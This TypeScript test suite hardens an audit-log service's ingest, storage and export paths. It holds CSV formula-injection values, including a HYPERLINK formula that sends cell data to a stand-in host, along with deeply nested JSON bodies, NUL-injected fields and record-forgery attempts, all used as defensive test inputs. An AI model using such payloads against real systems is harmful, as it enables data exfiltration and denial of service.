/**
 * Hardening of what gets stored, on both engines over real HTTP:
 * - strings: random strings with lone surrogates, pairs and NULs in every field of a record
 *   (keys too) go through ingest → store → verify → export; storable ones round-trip exactly
 *   (record, indexed columns, JSON/JSONL/CSV), the others are a 400 naming the field, store
 *   nothing, and never fail another tenant's concurrent ingest;
 * - a group commit whose member fails (injected database fault, log_id conflict, NUL from a
 *   writer that skipped ingest's checks) fails that member alone;
 * - nesting depth is bounded on every JSON body (ingest, the Cloud API mapping, auth);
 * - provenance is visible in the Ops API's LogRecord and exports; API keys may not ingest the
 *   control plane's operations unless an Owner allows it per key (audited);
 * - ingest counts are disjoint.
 */
import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import * as grpc from '@grpc/grpc-js';
import { engines } from './helpers/stores.js';
import { type Actor } from './helpers/control.js';
import { makeRecord } from './helpers/records.js';
import { prng } from './helpers/prng.js';
import { servedSuite } from './helpers/suites.js';
import { prepareRecords } from '../src/api/ingest.js';
import { startGrpcServer } from '../src/api/cloud/grpc-server.js';
import { protoRoot } from '../src/api/cloud/proto.js';
import { resolveConfig } from '../src/config.js';
import { verifyAccount } from '../src/chain/verify.js';
import { isAuditError } from '../src/errors.js';
import { MAX_JSON_DEPTH, MAX_RECORD_DEPTH } from '../src/record/limits.js';
import { isStorableText } from '../src/record/text.js';
import { CSV_COLUMNS, csvCellValue, csvField, exportChunks } from '../src/store/export.js';
import type { StoredRecord } from '../src/store/store.js';

const TOKEN = 'test-ingest-token-hardening-0123';

/** Pieces that matter: formula starts, quoting, multi-unit characters, lone surrogates, NUL. */
const PIECES = ['a', 'Z', '0', ' ', '=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", 'é', '😀', '\ud800', '\udfff', '\u0000', '＝', '\\', '{'];

function randomText(rand: () => number, maxLen = 10, pieces: readonly string[] = PIECES): string {
  let s = '';
  const n = Math.floor(rand() * (maxLen + 1));
  for (let i = 0; i < n; i++) s += pieces[Math.floor(rand() * pieces.length)]!;
  return s;
}

/** Every string and key inside a JSON value. */
function allStrings(v: unknown, out: string[] = []): string[] {
  if (typeof v === 'string') out.push(v);
  else if (Array.isArray(v)) for (const x of v) allStrings(x, out);
  else if (v !== null && typeof v === 'object') {
    for (const [k, x] of Object.entries(v)) {
      out.push(k);
      allStrings(x, out);
    }
  }
  return out;
}

/** RFC 4180 parser: rows of cells, quotes removed and `""` unescaped. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
        continue;
      }
      if (c === '"') {
        quoted = false;
        i++;
        continue;
      }
      cell += c;
      i++;
      continue;
    }
    if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
    i++;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

const baseRecord = (over: Record<string, unknown> = {}): Record<string, unknown> => ({
  emit_time: '2026-01-02T03:04:05Z',
  level: 'LOG_LEVEL_INFO',
  user_email: 'user@x.example',
  caller_ip_address: '10.1.2.3',
  operation: 'AppDeploy',
  details: { note: 'ok' },
  status: 'OK',
  category: 'LOG_CATEGORY_ADMIN',
  principal: { id: 'p-1', type: 'user', name: 'user@x.example' },
  ...over,
});

function nested(depth: number, leaf: unknown = 'x'): unknown {
  let v: unknown = leaf;
  for (let i = 0; i < depth; i++) v = { a: v };
  return v;
}

const keyIdOf = (apiKey: string): string => apiKey.split('_')[1]!;

describe('CSV export neutralises formulas in every column', () => {
  const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
  const storablePieces = PIECES.filter((p) => isStorableText(p));

  it('property: random text in every column is quoted, never starts a formula, and reads back exactly', async () => {
    const seed = 4242;
    const rand = prng(seed);
    const text = () => randomText(rand, 8, storablePieces);
    const rows: StoredRecord[] = [];
    const expected: string[][] = [];
    for (let n = 0; n < 300; n++) {
      const rec: Record<string, unknown> = {
        emit_time: text(),
        level: text(),
        user_email: text(),
        caller_ip_address: text(),
        operation: text(),
        details: { [text()]: text() },
        status: text(),
        category: text(),
        version: text(),
        log_id: text(),
        principal: { id: text(), type: text(), name: text(), api_key_id: text() },
        request_id: text(),
      };
      const accountId = text();
      const ingestedBy = rand() < 0.2 ? null : text();
      const storedAt = Math.floor(rand() * 2e12);
      rows.push({
        id: n + 1,
        accountId,
        seq: n + 1,
        storedAt,
        prevHash: '',
        hash: '',
        ingestedBy,
        recordJson: JSON.stringify(rec),
        columns: { logId: '', emitMs: 0, operation: '', userEmail: '', principalId: '', status: '', namespace: null },
      });
      const p = rec['principal'] as Record<string, string>;
      const byColumn: Record<(typeof CSV_COLUMNS)[number], string> = {
        account_id: accountId,
        sequence: String(n + 1),
        stored_at: new Date(storedAt).toISOString(),
        ingested_by: ingestedBy ?? '',
        emit_time: rec['emit_time'] as string,
        level: rec['level'] as string,
        user_email: rec['user_email'] as string,
        caller_ip_address: rec['caller_ip_address'] as string,
        operation: rec['operation'] as string,
        status: rec['status'] as string,
        category: rec['category'] as string,
        version: rec['version'] as string,
        log_id: rec['log_id'] as string,
        request_id: rec['request_id'] as string,
        principal_id: p['id']!,
        principal_type: p['type']!,
        principal_name: p['name']!,
        principal_api_key_id: p['api_key_id']!,
        details: JSON.stringify(rec['details']),
      };
      expected.push(CSV_COLUMNS.map((c) => byColumn[c]));
    }
    async function* source() {
      yield* rows;
    }
    let out = '';
    for await (const chunk of exportChunks(source(), 'csv')) out += chunk;
    const parsed = parseCsv(out);
    assert.deepEqual(parsed[0], [...CSV_COLUMNS]);
    assert.equal(parsed.length, rows.length + 1);
    let neutralised = 0;
    parsed.slice(1).forEach((cells, i) => {
      assert.equal(cells.length, CSV_COLUMNS.length, `seed ${seed} row ${i}`);
      cells.forEach((cell, c) => {
        assert.doesNotMatch(cell, FORMULA, `seed ${seed} row ${i} column ${CSV_COLUMNS[c]}: ${JSON.stringify(cell)}`);
        assert.equal(csvCellValue(cell), expected[i]![c], `seed ${seed} row ${i} column ${CSV_COLUMNS[c]}`);
        if (cell !== expected[i]![c]) neutralised++;
      });
    });
    assert.ok(neutralised > 50, `formula starts were exercised (${neutralised})`);
    // Every data cell is quoted (RFC 4180), so separators and line breaks inside never split a row.
    for (const line of out.split('\r\n').slice(1, 4)) assert.match(line, /^"/);
  });

  it("the issue's cells: request_id and caller_ip_address starting with = + - @ tab CR", () => {
    for (const v of ['=HYPERLINK("http://x.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', "'=1", "'plain"]) {
      const cell = csvField(v);
      const inner = cell.slice(1, -1).replace(/""/g, '"');
      assert.doesNotMatch(inner, FORMULA);
      assert.equal(csvCellValue(inner), v);
    }
  });
});

for (const engine of engines()) {
  describe(`record hardening: ${engine}`, () => {
    const s = servedSuite(engine, { ingestToken: TOKEN });

    const send = (method: string, path: string, body: unknown, secret = TOKEN, headers: Record<string, string> = {}) =>
      fetch(`${s.base}${path}`, {
        method,
        headers: { authorization: `Bearer ${secret}`, 'content-type': 'application/json', ...headers },
        ...(body === undefined ? {} : { body: typeof body === 'string' ? body : JSON.stringify(body) }),
      });
    const ingest = (accountId: string | undefined, records: unknown[], secret = TOKEN) =>
      send('POST', '/api/v1/audit-logs', { ...(accountId ? { account_id: accountId } : {}), records }, secret);
    type ErrorBody = { error: { code: string; message: string; field?: string; index?: number } };

    it('property: random strings in every field round-trip exactly through store, verify and every export, or are a 400 naming the field', async () => {
      const seed = 20261130;
      const rand = prng(seed);
      const account = 'prop-acct';
      const sent: Record<string, unknown>[] = [];
      let refused = 0;
      const good = PIECES.filter((p) => isStorableText(p));
      const bad = PIECES.filter((p) => !isStorableText(p));
      for (let n = 0; n < 60; n++) {
        // Half the cases put one lone surrogate or NUL into one random string or key.
        let calls = 0;
        const target = rand() < 0.5 ? Math.floor(rand() * 14) : -1;
        const poison = (s: string) => {
          if (calls++ !== target) return s;
          const at = Math.floor(rand() * (s.length + 1));
          return s.slice(0, at) + bad[Math.floor(rand() * bad.length)]! + s.slice(at);
        };
        const text = () => poison(randomText(rand, 10, good));
        const key = () => poison(randomText(rand, 6, good) || 'k');
        const rec = baseRecord({
          user_email: text(),
          // Hops follow their own rule (addresses or host names); the poison still lands in them.
          caller_ip_address: poison(`10.${n}.0.1, host-${n}.example`),
          operation: `Op${text()}`,
          details: { [key()]: text(), nested: { [key()]: [text(), { [key()]: text() }] } },
          principal: { id: text() || 'p', type: 'user', name: text(), api_key_id: text() },
          request_id: text(),
        });
        const storable = allStrings(rec).every(isStorableText);
        const before = await s.store.count();
        // Three other tenants ingest at the same moment: they must never share a failure.
        const [res, ...others] = await Promise.all([
          ingest(account, [rec]),
          ...[1, 2, 3].map((k) => ingest(`bystander-${k}`, [baseRecord({ user_email: `b${k}@x.example` })])),
        ]);
        for (const o of others) assert.equal(o.status, 201, `seed ${seed} case ${n}: a bystander failed: ${await o.text()}`);
        if (storable) {
          assert.equal(res.status, 201, `seed ${seed} case ${n}: ${await res.clone().text()}`);
          sent.push(rec);
        } else {
          refused++;
          assert.equal(res.status, 400, `seed ${seed} case ${n}: ${JSON.stringify(rec)}`);
          const body = (await res.json()) as ErrorBody;
          assert.match(body.error.message, /lone UTF-16 surrogate|NUL character/);
          assert.ok(body.error.field && body.error.field.startsWith('records[0]'), `field named: ${body.error.field}`);
          assert.equal(await s.store.count(), before + 3, 'only the bystanders were stored');
        }
      }
      assert.ok(sent.length >= 5 && refused >= 5, `both outcomes exercised (${sent.length} stored, ${refused} refused)`);

      // Record, indexed columns and hash input agree: the chain verifies.
      const report = await verifyAccount(s.store, account, { trustedKeys: new Map() });
      assert.equal(report.ok, true, JSON.stringify(report));
      const page = await s.store.query({ accountId: account }, { order: 'asc', limit: 1000 });
      assert.equal(page.items.length, sent.length);
      page.items.forEach((item, i) => {
        const want = sent[i]!;
        const got = JSON.parse(item.recordJson) as Record<string, unknown>;
        for (const k of ['user_email', 'caller_ip_address', 'operation', 'details', 'principal']) assert.deepEqual(got[k], want[k], `${k} of case ${i}`);
        assert.equal(got['request_id'] ?? '', want['request_id']);
        assert.equal(item.columns.userEmail, want['user_email']);
        assert.equal(item.columns.principalId, (want['principal'] as { id: string }).id);
        assert.equal(item.columns.operation, want['operation']);
      });

      // Every export gives the same strings back.
      const jsonl = (await (await send('GET', `/api/v1/audit-logs/export?account=${account}&format=jsonl`, undefined)).text()).trim().split('\n');
      const json = (await (await send('GET', `/api/v1/audit-logs/export?account=${account}&format=json`, undefined)).json()) as { record: unknown }[];
      const csv = parseCsv(await (await send('GET', `/api/v1/audit-logs/export?account=${account}&format=csv`, undefined)).text());
      const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
      assert.equal(jsonl.length, sent.length);
      assert.equal(csv.length, sent.length + 1);
      page.items.forEach((item, i) => {
        const stored = JSON.parse(item.recordJson) as Record<string, unknown>;
        assert.deepEqual((JSON.parse(jsonl[i]!) as { record: unknown }).record, stored);
        assert.deepEqual(json[i]!.record, stored);
        const row = csv[i + 1]!.map(csvCellValue);
        assert.equal(row[col('user_email')], stored['user_email']);
        assert.equal(row[col('caller_ip_address')], stored['caller_ip_address']);
        assert.equal(row[col('operation')], stored['operation']);
        assert.equal(row[col('request_id')], stored['request_id'] ?? '');
        assert.equal(row[col('principal_id')], (stored['principal'] as { id: string }).id);
        assert.equal(row[col('principal_name')], (stored['principal'] as { name: string }).name);
        assert.deepEqual(JSON.parse(row[col('details')]!), stored['details']);
      });
    });

    it("the issue's examples: a lone surrogate or NUL in user_email or principal.id is a 400 naming the field; nothing stored", async () => {
      const cases: [Record<string, unknown>, string][] = [
        [{ user_email: '\ud800@x.example' }, 'records[0].user_email'],
        [{ user_email: 'bad\u0000@x.example' }, 'records[0].user_email'],
        [{ principal: { id: '\udc00', type: 'user', name: 'n' } }, 'records[0].principal.id'],
        [{ details: { ['k\ud800']: 1 } }, 'records[0].details["k\\ud800"]'],
        [{ details: { list: ['ok', 'nul\u0000'] } }, 'records[0].details.list[1]'],
      ];
      for (const [over, field] of cases) {
        const before = await s.store.count();
        const res = await ingest('examples', [baseRecord(), baseRecord(over)]);
        assert.equal(res.status, 400);
        const body = (await res.json()) as ErrorBody;
        assert.equal(body.error.code, 'AS_ERR_INVALID_ARGUMENT');
        assert.equal(body.error.field, field.replace('records[0]', 'records[1]'));
        assert.equal(await s.store.count(), before);
      }
      // The same rule holds for callers of the library entry point (no HTTP parser in front).
      try {
        prepareRecords({ records: [baseRecord(), baseRecord({ user_email: 'a\u0000' })] }, resolveConfig({}));
        assert.fail('expected a refusal');
      } catch (err) {
        assert.ok(isAuditError(err));
        assert.equal(err.code, 'AS_ERR_INVALID_RECORD');
        assert.deepEqual(err.details, { index: 1, field: 'user_email' });
      }
    });

    it('a group commit member that fails (database fault, log_id conflict, unstorable text) fails alone', async () => {
      // A real fault inside the shared transaction: the database refuses rows of one account.
      await s.fx.raw(
        engine === 'sqlite'
          ? `CREATE TRIGGER inject_fault BEFORE INSERT ON audit_records WHEN NEW.account_id = 'poison'
             BEGIN SELECT RAISE(ABORT, 'injected fault'); END;`
          : `CREATE FUNCTION inject_fault() RETURNS trigger AS $$ BEGIN
               IF NEW.account_id = 'poison' THEN RAISE EXCEPTION 'injected fault'; END IF; RETURN NEW; END $$ LANGUAGE plpgsql;
             CREATE TRIGGER inject_fault BEFORE INSERT ON audit_records FOR EACH ROW EXECUTE FUNCTION inject_fault();`,
      );
      try {
        const dup = makeRecord();
        await s.store.append({ accountId: 'gc-conflict', records: [dup], ingestedBy: 'test' });
        const headsBefore = await Promise.all(['gc-a', 'gc-b', 'gc-c'].map((a) => s.store.chainHead(a)));
        // Submitted in one tick: one flush takes them all.
        const results = await Promise.allSettled([
          s.store.append({ accountId: 'gc-a', records: [makeRecord(), makeRecord()], ingestedBy: 'test' }),
          s.store.append({ accountId: 'poison', records: [makeRecord()], ingestedBy: 'test' }),
          s.store.append({ accountId: 'gc-b', records: [makeRecord()], ingestedBy: 'test' }),
          s.store.append({ accountId: 'gc-conflict', records: [{ ...dup, user_email: 'changed@x.example' }], ingestedBy: 'test', clientLogIds: true }),
          s.store.append({ accountId: 'gc-nul', records: [makeRecord({ user_email: 'nul\u0000@x.example' })], ingestedBy: 'test' }),
          s.store.append({ accountId: 'gc-c', records: [makeRecord({ user_email: 'fine😀@x.example' })], ingestedBy: 'test' }),
        ]);
        const [a, poison, b, conflict, nul, c] = results;
        assert.equal(a!.status, 'fulfilled');
        assert.equal(b!.status, 'fulfilled');
        assert.equal(c!.status, 'fulfilled');
        assert.equal(poison!.status, 'rejected');
        assert.match(String((poison as PromiseRejectedResult).reason), /injected fault/);
        assert.equal(conflict!.status, 'rejected');
        assert.equal(((conflict as PromiseRejectedResult).reason as { code?: string }).code, 'AS_ERR_LOG_ID_CONFLICT');
        assert.equal(nul!.status, 'rejected');
        assert.equal(((nul as PromiseRejectedResult).reason as { code?: string }).code, 'AS_ERR_INVALID_RECORD');
        for (const [i, acct] of ['gc-a', 'gc-b', 'gc-c'].entries()) {
          const head = await s.store.chainHead(acct);
          assert.equal(head!.seq - (headsBefore[i]?.seq ?? 0), acct === 'gc-a' ? 2 : 1);
          assert.equal((await verifyAccount(s.store, acct, { trustedKeys: new Map() })).ok, true);
        }
        // Nothing stored (PostgreSQL commits an account's genesis head before its first write).
        assert.equal((await s.store.chainHead('poison'))?.seq ?? 0, 0);
        assert.equal((await s.store.chainHead('gc-nul'))?.seq ?? 0, 0);
        assert.equal((await s.store.chainHead('gc-conflict'))!.seq, 1);
      } finally {
        await s.fx.raw(engine === 'sqlite' ? 'DROP TRIGGER inject_fault;' : 'DROP TRIGGER inject_fault ON audit_records; DROP FUNCTION inject_fault();');
      }
    });

    it('bounds nesting on every JSON body with a 400 naming the field, never a 500', async () => {
      // Built as text: JSON.stringify itself cannot write such bodies.
      const deepBody = `{"account_id":"deep","records":[${JSON.stringify(baseRecord({ details: 'X' })).replace('"X"', '{"a":'.repeat(5000) + '1' + '}'.repeat(5000))}]}`;
      const deepDetails = await send('POST', '/api/v1/audit-logs', deepBody);
      assert.equal(deepDetails.status, 400);
      const d = (await deepDetails.json()) as ErrorBody;
      assert.match(d.error.message, new RegExp(`nested deeper than ${MAX_JSON_DEPTH} levels`));
      assert.ok(d.error.field!.startsWith('records[0].details.a.a'), d.error.field);

      const arrays = await send('POST', '/api/v1/audit-logs', '['.repeat(10_000) + ']'.repeat(10_000));
      assert.equal(arrays.status, 400);

      // Within the body limit but deeper than a record may be: refused per record, with its index.
      const tooDeep = await ingest('deep', [baseRecord(), baseRecord({ details: nested(MAX_RECORD_DEPTH) })]);
      assert.equal(tooDeep.status, 400);
      const t2 = (await tooDeep.json()) as ErrorBody;
      assert.equal(t2.error.index, 1);
      assert.match(t2.error.message, new RegExp(`record 1: .*nested deeper than ${MAX_RECORD_DEPTH} levels`));
      // The deepest allowed record is stored and exported.
      const ok = await ingest('deep', [baseRecord({ details: nested(MAX_RECORD_DEPTH - 2) })]);
      assert.equal(ok.status, 201, await ok.clone().text());

      // The Cloud Ops API mapping and the auth routes parse with the same bound.
      for (const [path, body] of [
        ['/cloud/namespaces', '{"spec":' + '{"a":'.repeat(5000) + '1' + '}'.repeat(5000) + '}'],
        ['/cloud/users', '{"spec":' + '['.repeat(10_000) + ']'.repeat(10_000) + '}'],
        ['/auth/login', JSON.stringify({ email: nested(200) })],
      ] as const) {
        const res = await send('POST', path, body, s.t.owner.apiKey);
        assert.equal(res.status, 400, `${path}: ${await res.clone().text()}`);
      }
      assert.equal((await verifyAccount(s.store, s.t.owner.accountId, { trustedKeys: new Map() })).ok, true);
    });

    it('control-plane records cannot be built from unstorable request fields (body, path, query)', async () => {
      const before = await s.store.count();
      const bad = [
        await send('POST', '/cloud/users', { spec: { email: 'eve\u0000@x.example', access: { accountAccess: { role: 'ROLE_READ' } } } }, s.t.owner.apiKey),
        await send(
          'POST',
          '/cloud/users',
          { spec: { email: 'eve\ud800@x.example', access: { accountAccess: { role: 'ROLE_READ' } } }, async_operation_id: 'x' },
          s.t.owner.apiKey,
        ),
        await send('POST', '/api/v1/users/%00/invitation', {}, s.t.owner.apiKey),
        await send('GET', `/cloud/users/${encodeURIComponent('u\u0000')}`, undefined, s.t.owner.apiKey),
        await send('GET', '/api/v1/audit-logs?account=examples&user_email=%00', undefined),
        await send('POST', '/auth/login', { email: 'a\u0000@x.example', password: 'p' }, s.t.owner.apiKey),
      ];
      for (const [i, res] of bad.entries()) {
        const text = await res.text();
        assert.equal(res.status, 400, `case ${i}: ${text}`);
        assert.match(text, /NUL character|lone UTF-16 surrogate/, `case ${i}`);
      }
      assert.equal(await s.store.count(), before, 'no record, not even an ERROR record, carries the bad text');
    });

    it('gRPC: a NUL or invalid UTF-8 in a request string is INVALID_ARGUMENT and writes nothing', async () => {
      const server = await startGrpcServer({ host: '127.0.0.1', port: 0, handlers: s.t.control.handlers });
      const raw = new grpc.Client(`127.0.0.1:${server.port}`, grpc.credentials.createInsecure());
      const CreateUser = protoRoot.lookupType('temporal.api.cloud.cloudservice.v1.CreateUserRequest');
      const call = (bytes: Uint8Array) =>
        new Promise<{ code: number; details: string } | Buffer>((resolve) => {
          const md = new grpc.Metadata();
          md.set('authorization', `Bearer ${s.t.owner.apiKey}`);
          raw.makeUnaryRequest(
            '/temporal.api.cloud.cloudservice.v1.CloudService/CreateUser',
            (b: Buffer) => b,
            (b: Buffer) => b,
            Buffer.from(bytes),
            md,
            (err, value) => resolve(err ? { code: err.code, details: err.details } : value!),
          );
        });
      try {
        const before = await s.store.count();
        const nul = CreateUser.encode(
          CreateUser.fromObject({ spec: { email: 'eve\u0000@x.example', access: { accountAccess: { role: 'ROLE_READ' } } } }),
        ).finish();
        const r1 = await call(nul);
        assert.ok(!Buffer.isBuffer(r1));
        assert.equal(r1.code, grpc.status.INVALID_ARGUMENT);
        assert.match(r1.details, /spec\.email contains a NUL character/);
        // A lone surrogate encoded CESU-style (ED A0 80) is not UTF-8: refused as malformed.
        const cesu = Buffer.from(CreateUser.encode(CreateUser.fromObject({ spec: { email: 'eve\ud800@x.example' } })).finish());
        const r2 = await call(cesu);
        assert.ok(!Buffer.isBuffer(r2));
        assert.equal(r2.code, grpc.status.INVALID_ARGUMENT);
        assert.equal(await s.store.count(), before);
      } finally {
        raw.close();
        await server.close(1000);
      }
    });

    describe('provenance and ingest policies', () => {
      let dev: Actor;
      let devKey: string;
      before(async () => {
        dev = await s.t.addUser('ROLE_DEVELOPER');
        devKey = keyIdOf(dev.apiKey);
      });

      it("a Developer's key may not ingest the control plane's own operations by default; Owner keys and the deployment token may", async () => {
        const res = await ingest(
          undefined,
          [baseRecord({ operation: 'AppDeploy' }), baseRecord({ operation: 'DeleteUser', emit_time: '2020-01-01T00:00:00Z' })],
          dev.apiKey,
        );
        assert.equal(res.status, 403);
        const body = (await res.json()) as ErrorBody;
        assert.equal(body.error.index, 1);
        assert.equal(body.error.field, 'operation');
        assert.equal((await ingest(undefined, [baseRecord({ operation: 'AppDeploy' })], dev.apiKey)).status, 201);
        for (const lookalike of ['deleteuser', 'Delete_User', 'DeleteUser ', 'Delete\u200bUser', 'INVITEUSERS']) {
          assert.equal((await ingest(undefined, [baseRecord({ operation: lookalike })], dev.apiKey)).status, 403, JSON.stringify(lookalike));
        }
        // Owner and Global Admin keys are not restricted by default (they could lift any restriction).
        assert.equal((await ingest(undefined, [baseRecord({ operation: 'CreateNamespace' })], s.t.owner.apiKey)).status, 201);
        assert.equal((await ingest(s.t.owner.accountId, [baseRecord({ operation: 'DeleteUser' })])).status, 201);
      });

      it("only an Owner or Global Admin sets a key's policy; the change is audited and enforced", async () => {
        const path = `/api/v1/api-keys/${devKey}/ingest-policy`;
        assert.equal((await send('PUT', path, { operations: ['*'] }, dev.apiKey)).status, 403, 'a Developer cannot widen its own key');
        const reader = await s.t.addUser('ROLE_READ');
        assert.equal((await send('GET', path, undefined, reader.apiKey)).status, 403);
        const admin = await s.t.addUser('ROLE_ADMIN');
        assert.equal((await send('GET', path, undefined, admin.apiKey)).status, 200, 'a Global Admin may');
        const get0 = (await (await send('GET', path, undefined, s.t.owner.apiKey)).json()) as Record<string, unknown>;
        assert.deepEqual(get0, { key_id: devKey, operations: null, categories: null, default: true });
        assert.equal((await send('PUT', path, { operations: ['DeleteUser'], categories: ['LOG_CATEGORY_BOGUS'] }, s.t.owner.apiKey)).status, 400);
        assert.equal((await send('PUT', `/api/v1/api-keys/nokey/ingest-policy`, { operations: null }, s.t.owner.apiKey)).status, 404);

        const set = await send('PUT', path, { operations: ['DeleteUser'], categories: ['LOG_CATEGORY_ADMIN'] }, s.t.owner.apiKey);
        assert.equal(set.status, 200, await set.clone().text());
        const recs = await s.t.records(s.t.owner.accountId);
        const audit = recs.filter((r) => r.operation === 'UpdateAPIKey' && r.status === 'OK').at(-1)!;
        assert.deepEqual(audit.details['target_api_keys'], [devKey]);
        assert.deepEqual(audit.details['ingest_operations'], ['DeleteUser']);
        assert.deepEqual(audit.details['ingest_categories'], ['LOG_CATEGORY_ADMIN']);
        assert.equal(audit.principal.id, s.t.owner.userId);

        assert.equal((await ingest(undefined, [baseRecord({ operation: 'DeleteUser' })], dev.apiKey)).status, 201);
        assert.equal((await ingest(undefined, [baseRecord({ operation: 'AppDeploy' })], dev.apiKey)).status, 403);
        const cat = await ingest(undefined, [baseRecord({ operation: 'DeleteUser', category: 'LOG_CATEGORY_SYSTEM' })], dev.apiKey);
        assert.equal(cat.status, 403);
        assert.equal(((await cat.json()) as ErrorBody).error.field, 'category');

        // A policy binds whatever the role: an Owner can narrow a key of its own.
        const ownerPath = `/api/v1/api-keys/${keyIdOf(s.t.owner.apiKey)}/ingest-policy`;
        assert.equal((await send('PUT', ownerPath, { operations: ['AppDeploy'] }, s.t.owner.apiKey)).status, 200);
        assert.equal((await ingest(undefined, [baseRecord({ operation: 'CreateNamespace' })], s.t.owner.apiKey)).status, 403);
        assert.equal((await send('PUT', ownerPath, { operations: null }, s.t.owner.apiKey)).status, 200);

        assert.equal((await send('PUT', path, { operations: null, categories: null }, s.t.owner.apiKey)).status, 200);
        assert.equal((await ingest(undefined, [baseRecord({ operation: 'DeleteUser' })], dev.apiKey)).status, 403, 'back to the default');
      });

      it("GetAuditLogs, the query API and every export tell ingested records from the control plane's own", async () => {
        const res = await send('GET', '/cloud/audit-logs?page_size=1000', undefined, s.t.owner.apiKey);
        assert.equal(res.status, 200);
        const logs = ((await res.json()) as { logs: { operation: string; raw_details?: Record<string, unknown>; rawDetails?: Record<string, unknown> }[] })
          .logs;
        const by = (l: (typeof logs)[number]) => (l.raw_details ?? l.rawDetails)!['auditstream_ingested_by'];
        const native = logs.filter((l) => l.operation === 'UpdateAPIKey');
        assert.ok(native.length > 0 && native.every((l) => by(l) === null));
        const forged = logs.filter((l) => l.operation === 'DeleteUser');
        assert.deepEqual(new Set(forged.map(by)), new Set([`apikey:${devKey}`, 'token:deployment']));
        assert.ok(
          logs.some((l) => l.operation === 'CreateNamespace' && by(l) === `apikey:${keyIdOf(s.t.owner.apiKey)}`),
          "an Owner's ingest is marked too",
        );

        // The reserved key cannot be forged by ingest.
        const forge = await ingest(undefined, [baseRecord({ details: { auditstream_ingested_by: null } })], s.t.owner.apiKey);
        assert.equal(forge.status, 400);
        assert.equal(((await forge.json()) as ErrorBody).error.field, 'details.auditstream_ingested_by');

        const q = (await (await send('GET', `/api/v1/audit-logs?operation=DeleteUser&order=asc`, undefined, s.t.owner.apiKey)).json()) as {
          items: { ingested_by: string | null }[];
        };
        assert.deepEqual(new Set(q.items.map((i) => i.ingested_by)), new Set([`apikey:${devKey}`, 'token:deployment']));
        const jsonl = (await (await send('GET', '/api/v1/audit-logs/export?format=jsonl', undefined, s.t.owner.apiKey)).text()).trim().split('\n');
        const envs = jsonl.map((l) => JSON.parse(l) as { ingested_by: string | null; record: { operation: string } });
        assert.ok(envs.some((e) => e.record.operation === 'UpdateAPIKey' && e.ingested_by === null));
        assert.ok(envs.some((e) => e.record.operation === 'DeleteUser' && e.ingested_by === `apikey:${devKey}`));
        const csv = parseCsv(await (await send('GET', '/api/v1/audit-logs/export?format=csv', undefined, s.t.owner.apiKey)).text());
        const ib = CSV_COLUMNS.indexOf('ingested_by');
        const op = CSV_COLUMNS.indexOf('operation');
        assert.ok(csv.slice(1).some((r) => r[op] === 'DeleteUser' && r[ib] === `apikey:${devKey}`));
        assert.ok(csv.slice(1).some((r) => r[op] === 'UpdateAPIKey' && r[ib] === ''));
      });
    });

    it('ingest counts are disjoint: accepted is what this request newly stored', async () => {
      const recs = [1, 2, 3].map(() => baseRecord({ log_id: makeRecord().log_id }));
      const first = (await (await ingest('counts', recs.slice(0, 2))).json()) as Record<string, unknown>;
      assert.deepEqual([first['accepted'], first['duplicates']], [2, 0]);
      const retry = (await (await ingest('counts', recs)).json()) as Record<string, unknown>;
      assert.deepEqual([retry['accepted'], retry['duplicates']], [1, 2]);
      const full = (await (await ingest('counts', recs)).json()) as Record<string, unknown>;
      assert.deepEqual([full['accepted'], full['duplicates']], [0, 3]);
      assert.equal((await s.store.chainHead('counts'))!.seq, 3);
    });
  });
}
